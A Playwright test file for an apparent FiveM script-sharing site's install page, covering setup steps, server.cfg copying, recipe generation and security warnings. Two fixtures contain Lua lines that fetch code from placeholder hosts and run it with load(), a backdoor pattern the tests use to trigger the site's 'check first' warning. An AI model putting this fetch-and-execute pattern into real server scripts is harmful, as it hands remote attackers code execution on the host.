import { readFile } from 'node:fs/promises'

import { expect, type APIRequestContext, type Page } from '@playwright/test'

import { zipOf } from '#test-support/archives/zip.ts'

import { expectNoViolations } from './axe.ts'
import { test } from './fixtures.ts'
import { registerUploader, registerUser, signInPage, submitScript } from './users.ts'

const main = (page: Page) => page.getByRole('main')

async function submitPack(request: APIRequestContext, files: Record<string, string>) {
  const members = Object.entries(files).map(([path, content]) => ({ name: path, content, deflate: true }))
  const script = await submitScript(await registerUploader(), { archive: zipOf(members) })
  const readState = async () => {
    const response = await request.get(`/api/scripts/${script.id}`)
    return (await response.json()).analysis?.state
  }
  await expect.poll(readState).toBe('done')
  return script
}

const manifest = (...lines: string[]) => ["fx_version 'cerulean'", "game 'gta5'", ...lines].join('\n')
const bank = {
  'pack/bank/fxmanifest.lua': manifest(
    "dependencies { 'bank_ui', 'es_extended', '/server:6116', '/onesync' }",
    "server_script '@oxmysql/lib/MySQL.lua'",
    "client_script 'client.lua'",
  ),
  'pack/bank/client.lua': "GetConvar('discord_webhook', '')",
  'pack/bank/sql/bank.sql': 'create table bank (id int);',
  'pack/bank_ui/fxmanifest.lua': manifest("dependency 'bank'"),
  'pack/README.md': '# Bank',
  'pack/INSTALL.md': '# Install',
}

test('a visitor reads how to install a version and copies the lines for server.cfg', async ({
  page,
  request,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  const script = await submitPack(request, bank)
  await page.goto(`/scripts/${script.id}/install`)

  await expect(page).toHaveTitle(`Install ${script.name} · Scripthaven`)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(script.name)
  await expect(main(page).getByRole('listitem').getByRole('heading', { level: 2 })).toHaveText([
    'Download and unpack',
    'Check what it needs',
    'Prepare the database',
    'Set the convars',
    'Start it',
  ])
  for (const name of ['Or automate it', 'Keep it up to date'])
    await expect(main(page).getByRole('region', { name }).getByRole('heading', { level: 2 })).toHaveText(name)
  for (const shown of ['OneSync enabled', 'Server build 6116 or later', 'es_extended', 'oxmysql'])
    await expect(main(page).getByText(shown, { exact: true })).toBeVisible()
  await expect(main(page).getByText('Turn on OneSync in txAdmin under Settings, FXServer.')).toBeVisible()
  await expect(main(page).getByRole('group', { name: 'Server console' })).toContainText('refresh')
  await expect(main(page).getByRole('link', { name: 'github.com' }).first()).toBeVisible()
  await expect(main(page).getByText('bank → bank_ui → bank')).toBeVisible()
  await expect(main(page).getByText('Keep secrets on the server')).toBeVisible()
  await expect(main(page).getByText('# set discord_webhook ""')).toBeVisible()
  await expectNoViolations(page)

  await main(page).getByRole('button', { name: 'Copy' }).nth(1).click()
  await expect(page.getByText('Copied server.cfg')).toBeVisible()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('ensure bank_ui\nensure bank\n')

  await main(page).getByRole('link', { name: 'pack/bank/sql/bank.sql' }).click()
  await expect(page).toHaveURL(`/scripts/${script.id}/files/pack/bank/sql/bank.sql`)
})

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false })

  test('the page is complete', async ({ page, request }) => {
    const script = await submitPack(request, { 'fxmanifest.lua': manifest() })
    await page.goto(`/scripts/${script.id}/install`)

    await expect(main(page).getByRole('group', { name: 'server.cfg' })).toContainText('ensure ')
    await expect(main(page).getByText('The manifest is not in a folder')).toBeVisible()
  })
})

test('an archive without a manifest, a version of another script and an unknown one', async ({
  page,
  request,
}) => {
  const script = await submitPack(request, { 'texts/readme.txt': 'Hello' })
  const other = await submitPack(request, bank)
  const { versionId } = await (await request.get(`/api/scripts/${other.id}`)).json()
  await page.goto(`/scripts/${script.id}/install`)
  await expect(main(page).getByText('there is nothing to start')).toBeVisible()
  await expectNoViolations(page, [1440, 390])

  for (const version of [versionId, 999_999_999]) {
    const response = await page.goto(`/scripts/${script.id}/install?v=${version}`)
    expect(response?.status()).toBe(404)
    await expect(main(page).getByRole('heading', { name: 'Version not found' })).toBeVisible()
  }
  expect((await page.goto('/scripts/999999999/install'))?.status()).toBe(404)
})

test('a visitor is led to the sign-in, and a member creates a recipe that downloads the archive', async ({
  page,
  request,
}) => {
  const script = await submitPack(request, bank)
  await page.goto(`/scripts/${script.id}/install`)
  await main(page).getByRole('button', { name: 'Sign in to generate recipe and commands' }).click()
  await expect(page.getByRole('dialog')).toBeVisible()

  await signInPage(page, await registerUser('member'))
  await page.goto(`/scripts/${script.id}/install`)
  const create = main(page).getByRole('button', { name: 'Generate recipe and commands', exact: true })
  await create.press('Enter')

  const recipe = main(page).getByRole('group', { name: 'Recipe' })
  await expect(recipe).toContainText('action: "download_file"')
  const url = /url: "([^"]+)"/.exec((await recipe.textContent()) ?? '')?.[1] ?? ''
  expect((await request.get(new URL(url).pathname)).status()).toBe(200)
  await expect(main(page).getByRole('group', { name: 'Linux commands' })).toContainText('sha256sum --check')
  await expectNoViolations(page)
  const saving = page.waitForEvent('download')
  await main(page).getByRole('button', { name: 'Save', exact: true }).click()
  expect((await saving).suggestedFilename()).toBe(`recipe-${script.id}.yaml`)
  await expect(main(page).getByRole('group', { name: 'Command line' })).toContainText(
    `node cli.mjs add ${script.id}`,
  )
  await main(page).getByRole('button', { name: 'Add to a collection' }).click()
  await expect(page.getByRole('dialog', { name: 'Add to a collection' })).toBeVisible()
})

test('a download and a recipe of an archive with a finding of severity high ask once', async ({
  page,
  request,
}) => {
  const script = await submitPack(request, {
    'bank/fxmanifest.lua': manifest("server_script 'server.lua'"),
    'bank/server.lua':
      "PerformHttpRequest('https://api.example.com/x', function(code, body) load(body)() end)",
  })
  await signInPage(page, await registerUser('member'))
  await page.goto(`/scripts/${script.id}/install`)
  const create = main(page).getByRole('button', { name: 'Generate recipe and commands', exact: true })
  const question = page.getByRole('dialog')

  await create.click()
  await expect(question).toContainText('1 thing to check first')
  await page.keyboard.press('Escape')
  await expect(question).toHaveCount(0)
  await expect(create).toBeEnabled()
  await expect(page.getByRole('group', { name: 'recipe' })).toHaveCount(0)

  await create.click()
  await question.getByRole('button', { name: 'Download anyway' }).click()
  await expect(main(page).getByText('The URL works until')).toBeVisible()
  const download = page.waitForEvent('download')
  await main(page).getByRole('button', { name: 'Download', exact: true }).click()
  await download
})

test('the page of the command line shows what the program printed in the recorded session', async ({
  page,
}) => {
  const session = await readFile('docs/cli-session.md', 'utf8')
  await page.goto('/cli')

  const examples = main(page).getByRole('group', { name: /^Example: / })
  await expect(examples).toHaveCount(4)
  for (const text of await examples.locator('pre').allTextContents())
    for (const block of text.trim().split(/\n(?=\$ )/)) expect(session).toContain(block.trim())
})

test('the page names something to check first before the steps', async ({ page, request }) => {
  const script = await submitPack(request, {
    'pilot/fxmanifest.lua': manifest("server_script 'server.lua'"),
    'pilot/server.lua':
      "PerformHttpRequest('https://updates.example/latest.lua', function(_, text) load(text)() end)",
  })
  await page.goto(`/scripts/${script.id}/install`)

  const warning = main(page).getByRole('note').filter({ hasText: 'Something to check first' })
  await expect(warning).toBeVisible()
  await expectNoViolations(page)
  await warning.getByRole('link', { name: 'Read the report' }).click()
  await expect(page).toHaveURL(`/scripts/${script.id}/report`)
})
